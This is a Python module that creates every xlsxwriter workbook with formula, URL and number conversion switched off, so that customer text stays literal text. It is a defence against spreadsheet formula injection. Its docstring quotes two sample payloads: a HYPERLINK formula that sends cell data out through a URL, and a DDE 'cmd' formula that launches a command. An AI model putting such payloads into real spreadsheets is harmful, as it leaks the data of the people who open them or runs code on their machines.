"""Every Excel workbook Aftercare writes is opened here: text is written as text.

xlsxwriter's ``write()`` turns a string that starts with ``=`` into a live formula and one
that looks like a URL (``http://``, ``file://``, ``external:``) into a link. A customer name
such as ``=HYPERLINK("http://…?leak="&A1,"点我")`` or ``=cmd|' /C calc'!A0`` must come out
as that literal text in an export, a call sheet or the report, so every workbook is
created by :func:`new_workbook` with those conversions off (``tests/reports/
test_safe_spreadsheets.py`` fails on an ``xlsxwriter.Workbook(`` built anywhere else).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import xlsxwriter
from xlsxwriter.workbook import Workbook

#: Workbook options that keep every string a string cell: no formula, no link, no number.
TEXT_STAYS_TEXT: dict[str, bool] = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}


def new_workbook(path: str | Path, **options: Any) -> Workbook:
    """Open a workbook at ``path`` whose text cells can never become formulas or links.

    Parameters
    ----------
    path
        The ``.xlsx`` file to write (on ``close()``).
    **options
        Further xlsxwriter ``Workbook`` options (e.g. ``constant_memory``); they cannot
        switch the conversions of :data:`TEXT_STAYS_TEXT` back on.

    Returns
    -------
    Workbook
        The open workbook; close it to write the file.
    """
    return xlsxwriter.Workbook(str(path), {**options, **TEXT_STAYS_TEXT})
